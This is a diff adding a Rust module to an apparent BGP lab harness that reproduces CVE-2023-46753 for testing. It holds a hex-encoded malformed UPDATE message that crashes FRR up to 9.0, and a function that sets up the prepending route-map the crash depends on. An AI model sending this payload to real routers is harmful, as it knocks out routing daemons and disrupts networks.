@@ -1,0 +1,24 @@
+//! Published bugs of the daemons, as scenarios need them: what triggers them, and the configuration they need.
+
+/// CVE-2023-46753: FRR up to 9.0 with a route-map that prepends dies of an UPDATE without a path.
+pub mod cve_2023_46753 {
+    use crate::daemons::Instance;
+    use crate::lab::Netns;
+    use crate::operate;
+    use anyhow::Result;
+    use std::net::IpAddr;
+
+    /// UPDATE: four unknown attributes, none of the mandatory ones, and 198.51.100.0/24.
+    pub const UPDATE: &str =
+        "ffffffffffffffffffffffffffffffff002f0200000014ff1f00100004014646464646000446464646464618c63364";
+
+    /// Gives a running FRR a route-map that prepends, for what this neighbour says of 198.51.100.0/24 alone.
+    pub fn prepend(frr: &Instance, ns: &Netns, neighbour: IpAddr) -> Result<()> {
+        let commands = format!(
+            "configure terminal\nbgp route-map delay-timer 0\nip prefix-list PUBLISHED seq 5 permit 198.51.100.0/24\n\
+             route-map IN permit 10\nmatch ip address prefix-list PUBLISHED\nset as-path prepend 65000\nroute-map IN permit 20\n\
+             router bgp 65000\naddress-family ipv4 unicast\nneighbor {neighbour} route-map IN in"
+        );
+        operate::control(frr, ns, &commands).map(|_| ())
+    }
+}
